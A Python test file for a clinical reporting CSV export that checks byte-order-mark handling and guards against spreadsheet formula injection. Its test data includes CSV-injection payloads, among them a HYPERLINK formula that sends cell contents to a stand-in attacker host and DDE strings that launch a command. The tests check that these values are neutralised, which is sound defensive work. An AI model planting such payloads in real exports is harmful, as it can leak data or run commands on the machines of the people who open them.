"""GET /reports/outcomes/ as a spreadsheet opens it: an optional UTF-8 byte order mark, and client
names that can never run as formulas."""

import csv
import datetime

import pytest

from tests.factories import ClientFactory
from tests.helpers import assert_problem
from tests.reports.conftest import COLUMNS, OUTCOMES, body, names

pytestmark = pytest.mark.django_db


BOM = b"\xef\xbb\xbf"


@pytest.mark.parametrize("value", ["1", "true"])
def test_outcomes_with_bom_start_with_the_utf8_byte_order_mark(value, clinician, record, as_user):
    client = ClientFactory(primary_clinician=clinician, given_name="Zoë", family_name="Ångström")
    record(client, "phq9", 14, datetime.date(2025, 2, 1))

    response = as_user(clinician).get(f"{OUTCOMES}?bom={value}")

    assert response.status_code == 200
    assert response.streaming
    content = body(response)
    assert content.startswith(BOM + b"client_id,")
    assert "Zoë Ångström".encode() in content
    header, *rows = csv.reader(content.decode("utf-8-sig").splitlines())
    assert header == COLUMNS
    assert len(rows) == 1


@pytest.mark.parametrize("query", ["", "?bom=0", "?bom=false"])
def test_outcomes_without_bom_start_with_the_header(query, clinician, record, as_user):
    record(ClientFactory(primary_clinician=clinician), "phq9", 14, datetime.date(2025, 2, 1))

    response = as_user(clinician).get(f"{OUTCOMES}{query}")

    assert response.status_code == 200
    content = body(response)
    assert content.startswith(b"client_id,")
    assert len(content.decode("utf-8").splitlines()) == 2  # the header and one row


@pytest.mark.parametrize("value", ["yes", "TRUE", "2", ""])
def test_outcomes_with_a_bom_other_than_yes_or_no_is_400_naming_it(value, clinician, as_user):
    response = as_user(clinician).get(f"{OUTCOMES}?bom={value}")

    assert_problem(response, 400, "bom")


# --- Formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "given_name",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab"],
)
def test_outcomes_client_names_cannot_run_as_spreadsheet_formulas(
    given_name, clinician, record, as_user
):
    client = ClientFactory(primary_clinician=clinician, given_name=given_name, family_name="Roe")
    record(client, "phq9", 10, datetime.date(2025, 2, 1))

    response = as_user(clinician).get(OUTCOMES)

    assert names(response)[str(client.pk)] == f"'{given_name} Roe"


def test_outcomes_leave_ordinary_names_as_they_are(clinician, record, as_user):
    client = ClientFactory(
        primary_clinician=clinician, given_name="Anne-Marie", family_name="O'Neil"
    )
    record(client, "phq9", 10, datetime.date(2025, 2, 1))

    response = as_user(clinician).get(OUTCOMES)

    assert names(response)[str(client.pk)] == "Anne-Marie O'Neil"
